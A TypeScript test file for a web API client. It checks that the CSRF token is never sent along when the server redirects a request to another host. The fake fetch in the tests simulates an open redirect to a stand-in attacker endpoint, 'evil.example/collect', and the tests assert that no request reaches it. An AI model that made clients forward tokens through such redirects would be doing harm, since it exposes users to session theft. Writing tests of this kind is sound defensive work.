// Issue 32.1: the CSRF token never follows a redirect. A 302/307/308 from this site to another host
// (an open redirect, an SSO bounce) would be followed by the browser with every header of the first
// request. Here the client talks to a fetch that redirects as the browser does: it follows unless the
// request says `redirect: 'manual'` (opaque answer) or 'error' (TypeError).
import { ApiError, REDIRECT_ERROR } from '../apiError';
import { api, type FetchAnswer } from '../http';
import { TEST_CSRF_TOKEN } from '@fixtures/server/testing/backend';
import { installFetch } from '@test/setup';

interface Sent {
  url: string;
  method: string;
  token: string | undefined;
}

/** A fake fetch answer (jsdom has no Response): what the client reads of one. */
function answer(status: number, body: string): FetchAnswer {
  return {
    status,
    ok: status >= 200 && status < 300,
    type: status === 0 ? 'opaqueredirect' : 'basic',
    text: () => Promise.resolve(body),
  };
}

/** This site's /moved/… answers `status` to evil.example, which answers whatever comes as a success. */
function browserLikeFetch(status: number, sent: Sent[]): (input: string | URL, init?: RequestInit) => Promise<FetchAnswer> {
  const fetchLike = (input: string | URL, init: RequestInit = {}): Promise<FetchAnswer> => {
    const headers = Object.fromEntries(Object.entries((init.headers ?? {}) as Record<string, string>).map(([k, v]) => [k.toLowerCase(), v]));
    // As fetch does: a relative URL against the document's base.
    const resolved = new URL(String(input), document.baseURI);
    sent.push({ url: resolved.href, method: init.method ?? 'GET', token: headers['x-csrf-token'] });
    if (!resolved.pathname.startsWith('/moved')) return Promise.resolve(answer(200, '{"success":true,"data":"evil"}'));
    if (init.redirect === 'manual') return Promise.resolve(answer(0, ''));
    if (init.redirect === 'error') return Promise.reject(new TypeError('Failed to fetch'));
    // 307/308 repeat the method and body; 301/302/303 turn a POST into a GET; the headers go along all the same.
    const method = status === 307 || status === 308 ? init.method : 'GET';
    return fetchLike('https://evil.example/collect', { ...init, method });
  };
  return fetchLike;
}

describe.each([302, 307, 308])('a %i answer to another host', (status) => {
  let sent: Sent[];
  beforeEach(() => {
    sent = [];
    // The browser's transport, not the stand-in's fetch (src/test/setup.ts puts that back before each test).
    installFetch(browserLikeFetch(status, sent));
  });

  it.each([
    ['GET', () => api.get('/moved/search', { params: { q: 'x' } })],
    ['POST', () => api.post('/moved/save', { a: 1 })],
    ['PUT', () => api.put('/moved/1', { a: 1 })],
    ['DELETE', () => api.delete('/moved/1')],
  ])('is not followed for a %s: no request reaches the other host, and the call fails with the redirect error', async (_method, call) => {
    const error = await call().catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ApiError);
    expect((error as ApiError).messages).toEqual([REDIRECT_ERROR]);
    expect(sent.filter((s) => !s.url.startsWith(window.location.origin))).toEqual([]);
    expect(sent).toHaveLength(1);
    expect(sent[0].token).toBe(TEST_CSRF_TOKEN);
  });
});
